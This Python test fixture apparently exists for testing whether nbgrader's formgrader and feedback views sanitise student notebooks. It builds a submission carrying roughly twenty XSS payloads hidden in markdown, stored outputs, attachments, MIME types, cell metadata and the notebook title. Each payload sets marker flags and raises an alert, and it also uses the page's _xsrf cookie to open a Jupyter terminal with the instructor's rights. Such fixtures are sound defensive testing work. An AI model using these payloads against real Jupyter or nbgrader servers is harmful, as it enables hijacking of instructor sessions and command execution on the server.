# A correct submission that also hides active content (HTML and JavaScript) in every place of the
# notebook's JSON that nbgrader's formgrader or feedback renders: markdown cells, stored outputs,
# attachments, cell and notebook metadata, execution counts. Each payload n, if it runs, sets
# window.__pwned_<n> (in its own frame and its parent), changes the document's title, opens a
# terminal as the instructor (POST /api/terminals with the _xsrf cookie) and opens a dialog.
# PAYLOADS names them; the cells are appended after the lesson (see tests/grading.py: CELLS).
# Every payload here keeps the notebook valid against nbformat's schema (schema_invalid.py holds
# those that do not: nbconvert refuses to render such a notebook at all).
import base64 as _b64


def _js(n):
    """The payload's script, written with single quotes only and no '<' (it goes into attributes)."""
    return (f"window.__pwned_{n}=1;try{{parent.__pwned_{n}=1}}catch(e){{}};document.title='PWNED {n}';"
            "fetch('/api/terminals',{method:'POST',credentials:'same-origin',headers:{'X-XSRFToken':"
            "decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'')}});"
            f"alert('pwned {n}')")


def _markdown(source, **extra):
    return {"cell_type": "markdown", "metadata": extra.pop("metadata", {}), "source": source, **extra}


def _code(outputs, **extra):
    return {"cell_type": "code", "metadata": {}, "source": "# (outputs stored in the notebook)",
            "execution_count": extra.pop("execution_count", None), "outputs": outputs, **extra}


def _display(data, metadata=None):
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _b(text):
    return _b64.b64encode(text.encode()).decode()


_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
        '<rect width="10" height="10"/></svg>')

PAYLOADS = {
    1: "markdown <img src=x onerror>",
    2: "markdown <script>",
    3: "markdown <iframe srcdoc>",
    4: "markdown <svg onload>",
    5: "markdown <details open ontoggle>",
    6: "markdown <a href=javascript:> (on click)",
    7: "markdown [link](javascript:) (on click)",
    8: "output text/html",
    9: "output text/markdown",
    10: "output image/svg+xml",
    11: "output application/javascript",
    12: "output widget view",
    13: "attachment image/svg+xml",
    14: "attachment text/html",
    15: "attachment with a crafted MIME type",
    16: "cell metadata nbgrader.grade_id",
    17: "cell metadata tags",
    19: "output metadata width",
    20: "raw cell text/html",
    21: "notebook metadata title and widget state",
}

CELLS = [
    _markdown(f'Payload 1: <img src=x onerror="{_js(1)}">'),
    _markdown(f"<script>{_js(2)}</script>\n\nPayload 2 above."),
    _markdown(f'Payload 3: <iframe srcdoc="<script>{_js(3)}</script>"></iframe>'),
    _markdown(f'Payload 4: <svg onload="{_js(4)}"></svg>'),
    _markdown(f'<details open ontoggle="{_js(5)}"><summary>Payload 5</summary>toggled</details>'),
    _markdown(f'Payload 6: <a href="javascript:{_js(6)}">pwn-link-6</a>'),
    _markdown("Payload 7: [pwn-link-7](javascript:window.__pwned_7=1)"),
    _code([_display({"text/html": f'<img src=x onerror="{_js(8)}"><script>{_js(8)}</script>',
                     "text/plain": "<HTML object>"})]),
    _code([_display({"text/markdown": f'Payload 9 <img src=x onerror="{_js(9)}">'})]),
    _code([_display({"image/svg+xml": _SVG.format(js=_js(10))})]),
    _code([_display({"application/javascript": _js(11)})]),
    _code([_display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
                                                                  "version_minor": 0},
                     "text/plain": "widget"})]),
    _markdown("Payload 13: ![svg](attachment:evil.svg)",
              attachments={"evil.svg": {"image/svg+xml": _b(_SVG.format(js=_js(13)))}}),
    _markdown("Payload 14: ![html](attachment:evil.html)",
              attachments={"evil.html": {"text/html": _b(f"<script>{_js(14)}</script>")}}),
    _markdown("Payload 15: ![mime](attachment:mime.png)",
              attachments={"mime.png": {f'image/png" onerror="{_js(15)}" x="': "AAAA"}}),
    _markdown("Payload 16: a markdown cell that claims to be graded.",
              metadata={"nbgrader": {"grade": True, "solution": True, "points": 1, "schema_version": 3,
                                     "grade_id": f'x" autofocus onfocus="{_js(16)}" y="'}}),
    _markdown("Payload 17: tags.", metadata={"tags": ['x"><img src=x onerror=window.__pwned_17=1>']}),
    _code([_display({"image/png": "AAAA"}, {"image/png": {"width": "1 onerror=window.__pwned_19=1"}})]),
    {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"},
     "source": f'Payload 20: <img src=x onerror="{_js(20)}">'},
]

NOTEBOOK_METADATA = {
    "title": f"</title><script>{_js(21)}</script>",
    "widgets": {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{_js(21)}</script>"}},
}
for _i, _cell in enumerate(CELLS):
    _cell.setdefault("id", f"added-{_i}")
